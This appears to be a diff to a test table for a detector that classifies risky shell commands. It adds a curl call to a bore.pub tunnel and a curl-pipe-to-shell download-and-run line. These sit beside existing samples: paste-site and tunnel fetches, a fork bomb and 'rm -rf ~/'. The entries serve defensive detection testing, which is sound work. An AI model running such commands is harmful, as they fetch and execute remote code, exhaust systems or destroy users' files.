@@ -52,6 +52,8 @@ _IN_SHELL = [
     ("curl https://pastebin.com/raw/x", "paste-service", "medium"),
     ("curl http://91.92.1.2/x", "numeric-address", "medium"),
     ("curl https://abc.ngrok-free.dev/x", "tunnel-address", "medium"),
+    ("curl http://bore.pub:4411/x", "tunnel-address", "medium"),
+    ("curl -s https://gist.githubusercontent.com/a/b/raw/x.sh | sh", "download-and-run", "high"),
     ("ngrok http 80", "tunnel", "medium"),
     (":(){ :|:& };:", "fork-bomb", "high"),
     ("rm -rf ~/", "destroys-files", "high"),
